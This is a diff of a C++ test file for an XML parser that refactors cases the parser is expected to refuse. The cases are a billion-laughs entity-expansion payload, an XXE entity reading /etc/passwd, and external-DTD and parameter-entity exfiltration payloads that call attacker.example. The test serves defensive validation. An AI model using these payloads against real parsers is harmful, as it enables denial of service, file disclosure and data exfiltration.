@@ -86,6 +86,17 @@ std::string many_attributes(std::size_t n) {
   return s + "/>";
 }
 
+constexpr const char* kBillionLaughs =
+    "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n"
+    " <!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
+    " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
+    "]>\n<lolz>&lol3;</lolz>";
+
+// An external entity (XXE) reading a file; the network and parameter-entity variants below.
+constexpr const char* kXxeFile =
+    "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
+    "<foo>&xxe;</foo>";
+
 const std::vector<ErrorCase>& error_cases() {
   using namespace std::string_literals;
   static const std::vector<ErrorCase> kCases = {
@@ -100,14 +111,8 @@ const std::vector<ErrorCase>& error_cases() {
         "\x0C<a/>"}},
       {XmlError::kDoctypeRefused,
        {
-           // Billion laughs.
-           "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n"
-           " <!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
-           " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
-           "]>\n<lolz>&lol3;</lolz>",
-           // External entity (XXE), file and network.
-           "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
-           "<foo>&xxe;</foo>",
+           kBillionLaughs,
+           kXxeFile,
            "<!DOCTYPE foo SYSTEM \"http://attacker.example/evil.dtd\"><foo/>",
            // Parameter entity (out-of-band exfiltration).
            "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p;]><d/>",
